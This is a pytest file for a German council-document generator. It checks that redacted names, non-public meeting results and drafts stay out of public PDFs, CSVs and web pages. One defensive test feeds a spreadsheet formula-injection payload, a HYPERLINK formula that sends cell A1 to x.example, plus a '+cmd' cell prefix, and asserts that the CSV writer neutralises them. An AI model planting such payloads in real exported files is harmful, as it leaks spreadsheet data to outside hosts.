"""Five attacks on the public boundary (issue „Öffentlichkeit as a type“), each of which once
published what must not be published, and the rules that close them: Schwärzung in the projection
(also in CSV rows and link addresses), a Beratung step's publicness following the agenda, the
``schwaerzen`` list checked on the text a reader sees, drafts outside the public tree, safe CSV
cells, and what the projection must keep (hinweis, dazu, abgesetzt)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner

from leak_support import NR_OEFF, find_markers, make_leak_project, norm
from render_support import pdf_pages
from vorlagengen.cli import cli

SLUG = "lueneburg-sga-2019-04-04"
LATER = "2019-05-02"  # a day the SGA meets without a Sitzung file


def _invoke(root: Path, *args: str) -> tuple[int, str]:
    result = CliRunner().invoke(cli, ["--projekt", str(root), *args])
    assert not (result.exception and not isinstance(result.exception, SystemExit)), result.output
    return result.exit_code, result.stdout + result.stderr


def _run(root: Path, *args: str) -> str:
    code, log = _invoke(root, *args)
    assert code == 0, log
    return log


def _edit(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text, old
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


def _public_record(root: Path, nummer: str, body: str, datum: str = "2019-04-04", **fields: str) -> Path:
    """A public Beschlussvorlage for the SGA's Sitzung on ``datum`` (the fixture's Sitzung by default;
    another day has no Sitzung, so the record need not be on an agenda)."""
    extra = "".join(f"{k}: {v}\n" for k, v in fields.items())
    path = root / "vorlagen/lueneburg" / (nummer.replace("/", "-") + ".yaml")
    path.write_text(f'nummer: "{nummer}"\ndatum: 2019-03-20\nkoerperschaft: lueneburg\nart: Beschlussvorlage\n'
                    f"status: öffentlich\nbetreff: Radwegebau Ortsmitte\nfederfuehrend: lueneburg-05\n"
                    f"beratungsfolge:\n  - gremium: lueneburg-sga\n    datum: {datum}\n"
                    f"    zustaendigkeit: Entscheidung\n{extra}sachverhalt: |\n  {body}\n"
                    "beschlussvorschlag: Der Ausschuss beschließt den Radwegebau.\n", encoding="utf-8")
    return path


def _line_of(path: Path, start: str) -> int:
    return next(i for i, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1) if line.startswith(start))


# --- the type: a public planner takes the projection, never the full project --------------------------

_PLANNERS = """
from pathlib import Path
from vorlagengen.load.project import load_project
from vorlagengen.public.projection import public_project
from vorlagengen.site import build_site
from vorlagengen.site.view import site_view
from vorlagengen.documents.sitzung.unterlagen import build_sitzung

full = load_project(Path("."))
public = public_project(full)
build_site(public, Path("site"), documents=Path("d"))
site_view(public, Path("d"))
build_site(full, Path("site"), documents=Path("d"))  # refused
site_view(full, Path("d"))  # refused
build_sitzung(full, full.sitzungen[0], Path("b"), public=full)  # refused
"""


def test_mypy_refuses_the_full_project_where_something_public_is_planned(tmp_path: Path,
                                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    from mypy import api

    repo = Path(__file__).resolve().parents[1]
    monkeypatch.setenv("MYPYPATH", str(repo / "src"))
    source = tmp_path / "planer.py"
    source.write_text(_PLANNERS, encoding="utf-8")
    out, _, _ = api.run([str(source), "--strict", "--config-file", str(repo / "pyproject.toml"),
                         "--cache-dir", str(repo / ".mypy_cache")])
    errors = sorted(int(line.split(":")[1]) for line in out.splitlines() if ": error:" in line)
    refused = [i for i, line in enumerate(_PLANNERS.splitlines(), 1) if line.endswith("# refused")]
    assert errors == refused, out
    assert out.count('has incompatible type "Project"; expected "PublicProject') == 3, out


# --- 1. redacted text in the public Beschlusskontrolle CSV and its website copy --------------------


def test_redacted_text_never_reaches_the_public_beschlusskontrolle_csv(tmp_path: Path) -> None:
    root = make_leak_project(tmp_path / "p")
    _edit(root / "sitzungen/sga.niederschrift.yaml", '  - top: "Ö 2"\n    ergebnis: zur Kenntnis genommen\n',
          '  - top: "Ö 2"\n    ergebnis: ungeändert beschlossen\n    kontrolle: {amt: lueneburg-05, frist: 2019-06-30, '
          'status: offen, bericht: "Angerufen hat [Frau ZlkKsvBericht]{.geschwaerzt}."}\n'
          '    abstimmung: {einstimmig: ja}\n')
    _run(root, "beschluesse")
    _run(root, "site")
    public = root / "build/oeffentlich"
    csv = public / "beschluesse/lueneburg/Beschlusskontrolle.csv"
    assert "Spielplatzsanierung" in csv.read_text(encoding="utf-8-sig")  # the public row is there
    markers = {"betreff": "ZlkSpanBetreff", "bericht": "ZlkKsvBericht"}
    assert find_markers(public, markers) == {}
    internal = (root / "build/intern/beschluesse/lueneburg/Beschlusskontrolle.csv").read_text(encoding="utf-8-sig")
    assert "ZlkKsvBericht" in internal and "ZlkSpanBetreff" in internal


# --- 2. the result of a non-public TOP, through a public Drucksache on the non-public part ---------


def _public_on_non_public_part(root: Path) -> Path:
    record = _public_record(root, "VO/9004/19", "Der Radweg wird gebaut.")
    with (root / "sitzungen/sga.yaml").open("a", encoding="utf-8") as f:
        f.write('    - drucksache: "VO/9004/19"\n')  # N 4, after the fixture's non-public TOPs
    with (root / "sitzungen/sga.niederschrift.yaml").open("a", encoding="utf-8") as f:
        f.write('  - top: "N 4"\n    ergebnis: abgelehnt\n    abstimmung: {ja: 1, nein: 4, enthaltung: 0}\n')
    return record


def test_result_of_a_non_public_top_never_reaches_a_public_document(tmp_path: Path) -> None:
    root = make_leak_project(tmp_path / "p")
    _public_on_non_public_part(root)
    _run(root, "build")
    _run(root, "site")
    public = root / "build/oeffentlich"
    pdf = norm(" ".join(pdf_pages(public / "vorlagen/lueneburg/VO-9004-19.pdf")))
    assert "radwegebau" in pdf and "abgelehnt" not in pdf and "nein4" not in pdf
    page = (public / "site/drucksachen/lueneburg/vo-9004-19.html").read_text(encoding="utf-8")
    assert "Radwegebau" in page and "abgelehnt" not in page
    internal = norm(" ".join(pdf_pages(root / "build/intern/vorlagen/lueneburg/VO-9004-19.pdf")))
    assert "abgelehnt" in internal


def test_validate_warns_where_agenda_and_record_disagree(tmp_path: Path) -> None:
    root = make_leak_project(tmp_path / "p")
    record = _public_on_non_public_part(root)
    code, log = _invoke(root, "validate")
    assert code == 0, log
    step = _line_of(record, "  - gremium: lueneburg-sga")  # „oeffentlich“ is left out: the step's line
    assert f"VO-9004-19.yaml:{step}:5: beratungsfolge[1].oeffentlich: Warnung: Sitzung am 04.04.2019" in log, log
    assert "im nichtöffentlichen Teil (TOP N 4); der Schritt gilt dort als nichtöffentlich" in log
    top = _line_of(root / "sitzungen/sga.yaml", '    - drucksache: "VO/9004/19"')
    assert (f"sga.yaml:{top}:7: tagesordnung.nichtoeffentlich[4].drucksache: Warnung: öffentliche Drucksache VO/9004/19 "
            "im nichtöffentlichen Teil") in log, log
    _edit(record, "    zustaendigkeit: Entscheidung\n", "    zustaendigkeit: Entscheidung\n    oeffentlich: nein\n")
    code, log = _invoke(root, "validate")
    assert code == 0 and "beratungsfolge[1]" not in log and "öffentliche Drucksache VO/9004/19" in log, log


# --- 3. the schwaerzen list bypassed by Markdown ---------------------------------------------------


@pytest.mark.parametrize("disguise", ["Mei&#101;r", "Me*ie*r", "M&eacute;ier", "Mei&shy;er", "**Mei**er", "Mei&#x65;r", "Me^ie^r"])
def test_a_listed_name_in_markdown_disguise_is_a_located_error(tmp_path: Path, disguise: str) -> None:
    root = make_leak_project(tmp_path / "p")
    seen = "Méier" if "eacute" in disguise else "Meier"
    record = _public_record(root, "VO/9004/19", f"Angeregt hat Herr {disguise} aus der Ortsmitte.",
                            LATER, schwaerzen=f'["{seen}"]')
    code, log = _invoke(root, "validate")
    assert code == 1, log
    assert f"VO-9004-19.yaml:{_line_of(record, 'sachverhalt:')}:1: sachverhalt" in log and ": sachverhalt: Eintrag 1 von „schwaerzen“ steht hier ungeschwärzt" in log
    assert "Meier" not in log and "Méier" not in log  # a message names the term by its place, never by itself


def test_a_listed_name_in_a_link_address_is_a_located_error(tmp_path: Path) -> None:
    root = make_leak_project(tmp_path / "p")
    record = _public_record(root, "VO/9004/19", "Schreiben Sie [ihr](mailto:mei%65r@example.org) gern.",
                            LATER, schwaerzen='["Meier"]')
    code, log = _invoke(root, "validate")
    where = f"VO-9004-19.yaml:{_line_of(record, 'sachverhalt:')}:1: sachverhalt: Eintrag 1 von „schwaerzen“"
    assert code == 1 and where in log and "Link- oder Bildadresse" in log, log


def test_a_listed_name_in_the_sitzung_or_its_niederschrift_is_a_located_error(tmp_path: Path) -> None:
    """VO/9003/19 lists the fixture's ListeName: what the agenda and the Niederschrift say of its TOP
    is checked as the reader sees it, too."""
    root = make_leak_project(tmp_path / "p")
    _edit(root / "sitzungen/sga.yaml", f'    - drucksache: "{NR_OEFF}"\n',
          f'    - drucksache: "{NR_OEFF}"\n      hinweis: "Zlk*Li*steName kommt"\n')
    _edit(root / "sitzungen/sga.niederschrift.yaml", '  - top: "Ö 2"\n',
          '  - top: "Ö 2"\n    inhalt: "Gesagt hat Zlk&#76;isteName etwas."\n')
    code, log = _invoke(root, "validate")
    hinweis = _line_of(root / "sitzungen/sga.yaml", "      hinweis:")
    inhalt = _line_of(root / "sitzungen/sga.niederschrift.yaml", "    inhalt: \"Gesagt")
    assert code == 1, log
    assert f"sga.yaml:{hinweis}:7: tagesordnung.oeffentlich[2].hinweis: Eintrag 1 von „schwaerzen“" in log, log
    assert f"sga.niederschrift.yaml:{inhalt}:5: tops[2].inhalt: Eintrag 1 von „schwaerzen“" in log, log
    assert "ListeName" not in log


# --- 4. a redacted name in a link address -----------------------------------------------------------


def test_a_redacted_link_publishes_neither_its_text_nor_its_address(tmp_path: Path) -> None:
    root = make_leak_project(tmp_path / "p")
    _public_record(root, "VO/9004/19", "Rückfragen an [[Frau ZlkLinkText]{.geschwaerzt}](mailto:zlklinkziel@example.org) "
                   "oder ![[ZlkBildAlt]{.geschwaerzt}](https://example.org/zlkbildziel.png).", LATER)
    _run(root, "build")
    _run(root, "sitzung")
    _run(root, "site")
    markers = {"text": "ZlkLinkText", "ziel": "zlklinkziel", "alt": "ZlkBildAlt", "bild": "zlkbildziel"}
    assert find_markers(root / "build/oeffentlich", markers) == {}
    assert "Rückfragen an" in " ".join(pdf_pages(root / "build/oeffentlich/vorlagen/lueneburg/VO-9004-19.pdf"))
    internal = find_markers(root / "build/intern/vorlagen", markers)
    assert {"text", "alt"} <= set(internal)


# --- 5. drafts in the public tree --------------------------------------------------------------------


def test_drafts_never_land_in_the_public_tree(tmp_path: Path) -> None:
    root = make_leak_project(tmp_path / "p")
    _edit(root / "vorlagen/lueneburg/VO-9003-19.yaml", "status: öffentlich\n", "status: öffentlich\nentwurf: ja\n")
    _run(root, "build")
    _run(root, "sitzung", "--entwurf")
    public = root / "build/oeffentlich"
    assert not (public / f"sitzungen/{SLUG}").exists()
    assert not (public / "vorlagen/lueneburg/VO-9003-19.pdf").exists()
    assert (public / "vorlagen/lueneburg/VO-9001-19-01.pdf").exists()  # a finished one stays public
    drafts = root / "build/entwurf"
    bekanntmachung = " ".join(pdf_pages(drafts / f"sitzungen/{SLUG}/Bekanntmachung.pdf"))
    assert "ENTWURF" in bekanntmachung
    assert (drafts / f"sitzungen/{SLUG}/Sitzungsmappe-oeffentlich.pdf").exists()
    assert "ENTWURF" in " ".join(pdf_pages(drafts / "vorlagen/lueneburg/VO-9003-19.pdf"))
    assert find_markers(drafts) == {}  # the draft tree holds public forms only
    _run(root, "site")
    assert not (public / "site/drucksachen/lueneburg/vo-9003-19.html").exists()  # the website shows no draft
    assert (public / "site/drucksachen/lueneburg/vo-9001-19-01.html").exists()
    _edit(root / "vorlagen/lueneburg/VO-9003-19.yaml", "entwurf: ja\n", "")
    _run(root, "build")
    _run(root, "sitzung")
    assert (public / f"sitzungen/{SLUG}/Bekanntmachung.pdf").exists()
    assert not (drafts / "vorlagen/lueneburg/VO-9003-19.pdf").exists()  # a finished draft leaves the draft tree


def test_a_niederschrift_in_draft_is_not_published(tmp_path: Path) -> None:
    root = make_leak_project(tmp_path / "p")
    niederschrift = root / "sitzungen/sga.niederschrift.yaml"
    _edit(niederschrift, "stand: unterschrieben\n", "stand: Entwurf\n")
    _run(root, "niederschrift")
    assert not (root / f"build/oeffentlich/sitzungen/{SLUG}/Niederschrift.pdf").exists()
    draft = root / f"build/entwurf/sitzungen/{SLUG}/Niederschrift.pdf"
    assert "ENTWURF" in " ".join(pdf_pages(draft))
    _edit(niederschrift, "stand: Entwurf\n", "stand: unterschrieben\n")
    _run(root, "niederschrift")
    assert (root / f"build/oeffentlich/sitzungen/{SLUG}/Niederschrift.pdf").exists() and not draft.exists()


# --- 6. CSV cells ------------------------------------------------------------------------------------


def test_csv_cells_cannot_start_a_formula(tmp_path: Path) -> None:
    root = make_leak_project(tmp_path / "p")
    _edit(root / "sitzungen/sga.niederschrift.yaml", '  - top: "Ö 4"\n    ergebnis: zur Kenntnis genommen\n',
          '  - top: "Ö 4"\n    ergebnis: ungeändert beschlossen\n    abstimmung: {einstimmig: ja}\n'
          '    kontrolle: {amt: lueneburg-05, frist: 2019-06-30, status: offen, '
          'bericht: "=HYPERLINK(\\"http://x.example/?\\"&A1;\\"klick\\")"}\n')
    _edit(root / "sitzungen/sga.yaml", "    - titel: Bericht zu", "    - titel: +cmd Bericht zu")
    _run(root, "beschluesse")
    for tree in ("oeffentlich", "intern"):
        rows = (root / f"build/{tree}/beschluesse/lueneburg/Beschlusskontrolle.csv").read_text(encoding="utf-8-sig")
        cells = [c for row in csv.reader(io.StringIO(rows), delimiter=";") for c in row]
        assert "'=HYPERLINK(\"http://x.example/?\"&A1;\"klick\")" in cells, rows
        assert any(c.startswith("'+cmd Bericht zu") for c in cells), rows
        assert not any(c[:1] in ("=", "+", "-", "@", "\t", "\r") for c in cells), rows


def test_the_csv_writer_neutralises_every_formula_start() -> None:
    from vorlagengen.documents.writing import csv_zelle

    for cell in ("=1+2", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
        assert csv_zelle(cell) == "'" + cell
    assert csv_zelle("Beschluss 1") == "Beschluss 1" and csv_zelle("") == ""


# --- 7. what is public stays --------------------------------------------------------------------------


def test_hinweis_dazu_and_abgesetzt_stay_public(tmp_path: Path) -> None:
    root = make_leak_project(tmp_path / "p")
    _public_record(root, "VO/9004/19", "Ergänzung zum Radweg.")
    _edit(root / "sitzungen/sga.yaml", f'    - drucksache: "{NR_OEFF}"\n',
          f'    - drucksache: "{NR_OEFF}"\n      dazu: ["VO/9004/19"]\n      hinweis: Ortstermin vorher\n')
    _edit(root / "sitzungen/sga.yaml", '    - drucksache: "VO/9001/19-01"\n',
          '    - drucksache: "VO/9001/19-01"\n      abgesetzt: ja\n')
    _run(root, "build")
    _run(root, "sitzung")
    folder = root / f"build/oeffentlich/sitzungen/{SLUG}"
    bekanntmachung = " ".join(" ".join(pdf_pages(folder / "Bekanntmachung.pdf")).split())
    assert "Ortstermin vorher" in bekanntmachung and "VO/9004/19" in bekanntmachung
    assert "abgesetzt" in bekanntmachung
    assert "Die Beratung des nichtöffentlichen Teils ist nicht öffentlich." not in bekanntmachung
    mappe = norm(" ".join(pdf_pages(folder / "Sitzungsmappe-oeffentlich.pdf")))
    assert norm("Ortstermin vorher") in mappe and norm("Ergänzung zum Radweg") in mappe
    assert norm("Die Verwaltung nimmt Stellung zur Wegebeleuchtung") not in mappe  # abgesetzt: out of the Mappe
    _run(root, "site")
    page = (root / f"build/oeffentlich/site/sitzungen/{SLUG}.html").read_text(encoding="utf-8")
    assert "Ortstermin vorher" in page and "(abgesetzt)" in page
    assert '<a href="../drucksachen/lueneburg/vo-9004-19.html">Drucksache VO/9004/19</a>' in page


def test_a_build_of_the_single_drucksache_hides_the_non_public_result_too(tmp_path: Path) -> None:
    """``make vorlage V=…`` loads no Sitzung, yet takes every Niederschrift's results: the agenda's
    non-public part must count there too, or the single build publishes what a build of all hides."""
    root = make_leak_project(tmp_path / "p")
    record = _public_on_non_public_part(root)
    _run(root, "build", str(record))
    pdf = norm(" ".join(pdf_pages(root / "build/oeffentlich/vorlagen/lueneburg/VO-9004-19.pdf")))
    assert "radwegebau" in pdf and "abgelehnt" not in pdf and "nein4" not in pdf
    internal = norm(" ".join(pdf_pages(root / "build/intern/vorlagen/lueneburg/VO-9004-19.pdf")))
    assert "abgelehnt" in internal
